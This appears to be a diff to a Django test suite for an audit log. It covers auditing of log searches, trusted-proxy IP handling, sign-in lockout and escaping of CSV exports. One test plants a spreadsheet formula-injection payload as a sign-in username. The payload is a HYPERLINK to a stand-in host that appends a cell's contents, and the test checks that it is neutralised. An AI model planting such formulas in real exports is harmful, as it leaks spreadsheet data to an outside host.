@@ -54,7 +54,11 @@ def test_searching_and_exporting_the_log_are_themselves_audited(client_for) -> N
     assert b"Threshold changed from 7 to 10" in page.content
     assert b"1 entry" in page.content
     (searched,) = entries(Action.AUDIT_SEARCHED)
-    assert searched.details == {"criteria": {"text": "threshold"}}
+    assert searched.details == {"criteria": {"text": "threshold"}, "page": 1}
+    assert searched.summary == "Searched the audit log"
+    assert client.get("/audit/").status_code == 200  # reading it unsearched is recorded too
+    read = AuditEvent.objects.filter(action=Action.AUDIT_SEARCHED).order_by("-id").first()
+    assert read.summary == "Read the audit log" and read.details == {"criteria": {}, "page": 1}
 
     download = client.get("/audit/export.csv", {"action": Action.SETTING_CHANGED})
     rows = list(csv.reader(io.StringIO(download.content.decode())))
@@ -62,6 +66,18 @@ def test_searching_and_exporting_the_log_are_themselves_audited(client_for) -> N
     assert rows[1][1] == "sam" and rows[1][4] == Action.SETTING_CHANGED
     (exported,) = entries(Action.AUDIT_EXPORTED)
     assert exported.details["rows"] == 1
+
+
+def test_exported_cells_that_look_like_formulas_stay_text(client_for) -> None:
+    # anyone can choose the user name recorded by a failed sign-in
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+    Client().post("/accounts/sign-in/", {"username": formula, "password": "guessing-123"})
+    record(None, Action.SETTING_CHANGED, "+threshold raised", username="@sam")
+    download = client_for(Role.AUDITOR).get("/audit/export.csv")
+    rows = {r[4]: r for r in csv.reader(io.StringIO(download.content.decode()))}
+    assert rows[Action.SIGN_IN_FAILED][1] == "'" + formula
+    assert rows[Action.SETTING_CHANGED][1] == "'@sam"
+    assert rows[Action.SETTING_CHANGED][7] == "'+threshold raised"
 
 
 def test_search_filters_by_user_action_and_date(client_for) -> None:
@@ -109,3 +125,39 @@ def test_the_database_refuses_changes_too(db) -> None:
         with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
             cursor.execute("TRUNCATE audit_auditevent")
     assert AuditEvent.objects.get(pk=event.pk).summary == "original"
+
+
+@pytest.mark.parametrize(
+    ("proxies", "forwarded", "expected"),
+    [
+        (0, "203.0.113.9", "10.0.0.2"),  # no proxy configured: the header is not believed
+        (1, "203.0.113.9", "203.0.113.9"),
+        (1, "198.51.100.66, 203.0.113.9", "203.0.113.9"),  # the client's own entry ignored
+        (2, "198.51.100.66, 203.0.113.9, 10.0.0.7", "203.0.113.9"),
+        (2, "203.0.113.9", "10.0.0.2"),  # fewer entries than proxies: keep the connection's
+        (1, "not-an-address", "10.0.0.2"),
+    ],
+)
+def test_the_address_behind_trusted_proxies(settings, make_user, proxies, forwarded, expected):
+    settings.DSVB_PROXY_COUNT = proxies
+    make_user(Role.BOARD_MEMBER, username="bola")
+    client = Client(REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR=forwarded)
+    client.post("/accounts/sign-in/", {"username": "bola", "password": PASSWORD})
+    (signed_in,) = entries(Action.SIGN_IN)
+    assert signed_in.ip_address == expected
+
+
+def test_the_lock_out_counts_failures_per_address_behind_a_proxy(settings, make_user) -> None:
+    settings.DSVB_PROXY_COUNT = 1
+    make_user(Role.BOARD_MEMBER, username="bola")
+
+    def attempt(address: str, password: str) -> int:
+        client = Client(REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR=address)
+        return client.post(
+            "/accounts/sign-in/", {"username": "bola", "password": password}
+        ).status_code
+
+    for _ in range(settings.AXES_FAILURE_LIMIT):
+        attempt("198.51.100.66", "guessing-123")
+    assert attempt("198.51.100.66", PASSWORD) == 429  # that address is locked out
+    assert attempt("203.0.113.9", PASSWORD) == 302  # the user, elsewhere, is not
